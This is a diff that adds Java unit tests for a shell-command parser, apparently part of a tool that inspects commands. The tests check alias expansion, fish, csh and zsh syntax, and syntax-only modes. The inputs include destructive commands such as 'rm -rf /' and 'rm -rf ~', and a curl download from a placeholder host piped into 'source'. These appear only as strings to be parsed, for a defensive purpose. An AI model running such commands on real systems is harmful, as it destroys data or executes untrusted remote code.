@@ -298,6 +298,50 @@ class NormalizerTest {
         assertTrue(parse("for /f \"tokens=*\" %%i in ('dir /b') do @echo %%i").parsed());
     }
 
+    @Test
+    void expandsAliasesDefinedEarlierInTheScript() {
+        assertEquals("direct: rm [-rf] [/home/user]", render(only(parse("alias ll='rm -rf ~'\nll"), "rm")));
+        // The command's own words follow the alias text; an alias that names itself expands once.
+        assertEquals("direct: rm [-rf] [/etc]", render(only(parse("alias del='rm -rf'; del /etc"), "rm")));
+        assertEquals("direct: ls [-la] [/tmp]", render(only(parse("alias ls='ls -la'; ls /tmp"), "ls")));
+        // An alias can cd; quoted or escaped names and names after unalias are not aliases.
+        assertEquals(Optional.of("/"), only(parse("alias up='cd /'; up; rm -rf *"), "rm").cwd());
+        assertEquals("direct: ll", render(only(parse("alias ll='rm -rf ~'; \\ll"), "ll")));
+        assertEquals("direct: ll", render(only(parse("alias ll='rm -rf ~'; unalias ll; ll"), "ll")));
+        assertEquals(List.of("direct: alias [ll=ls -l]"), render(parse("alias ll='ls -l'")));
+    }
+
+    @Test
+    void readsTheScriptsOfFishAndTheCShells() {
+        ShellScript fish = parse("fish -c 'for f in *.md; echo $f; end'");
+        assertTrue(fish.parsed(), () -> String.valueOf(fish.parseError()));
+        assertEquals("shell_string: echo [$f]", render(only(fish, "echo")));
+        assertEquals("shell_string: rm [-rf] [/home/user]",
+                render(only(parse("fish -c 'if test -d ~; and true; rm -rf ~; end'"), "rm")));
+        assertEquals(List.of("curl"), only(parse("fish -c 'curl -sL https://x.example/p.fish | source'"), "source")
+                .upstream().stream().map(SimpleCommand::name).toList());
+        assertEquals("shell_string: rm [-rf] [/etc]", render(only(parse("fish -c 'set d /etc; rm -rf $d'"), "rm")));
+        assertEquals("substitution: date", render(only(parse("fish -c 'echo (date)'"), "date")));
+        assertEquals("shell_string: rm [-rf] [/home/user/*]", render(only(parse("tcsh -c 'rm -rf ~/*'"), "rm")));
+        ShellScript csh = parse("csh -c 'foreach f (*.log)\n if (-f $f) rm -rf /var/log\nend'");
+        assertTrue(csh.parsed(), () -> String.valueOf(csh.parseError()));
+        assertEquals("shell_string: rm [-rf] [/var/log]", render(only(csh, "rm")));
+        assertEquals("shell_string: rm [-rf] [/srv]", render(only(parse("tcsh -c 'set d = /srv; rm -rf $d'"), "rm")));
+    }
+
+    @Test
+    void dropsZshGlobQualifiersAndRunsNothingUnderDashN() {
+        ShellScript zsh = parse("zsh -c 'rm -f ./*.tmp(N)'");
+        assertTrue(zsh.parsed(), () -> String.valueOf(zsh.parseError()));
+        assertEquals("shell_string: rm [-f] [./*.tmp]", render(only(zsh, "rm")));
+        assertEquals("shell_string: rm [-rf] [/*]", render(only(parse("zsh -c 'rm -rf /*(D)'"), "rm")));
+        assertEquals("shell_string: echo [(N)]", render(only(parse("zsh -c 'echo \"(N)\"'"), "echo")));
+        // sh -n only checks the syntax: nothing in the script runs.
+        assertEquals(List.of("direct: bash [-n] [-c] [rm -rf /]"), render(parse("bash -n -c 'rm -rf /'")));
+        assertEquals(List.of("direct: echo [rm -rf /]", "direct: sh [-o] [noexec]"), render(parse("echo 'rm -rf /' | sh -o noexec")));
+        assertEquals(List.of("direct: echo [rm -rf /]", "direct: sh", "piped_script: rm [-rf] [/]"), render(parse("echo 'rm -rf /' | sh")));
+    }
+
     private static String args(SimpleCommand c) {
         String r = render(c);
         return r.substring(r.indexOf(c.name()) + c.name().length()).strip();
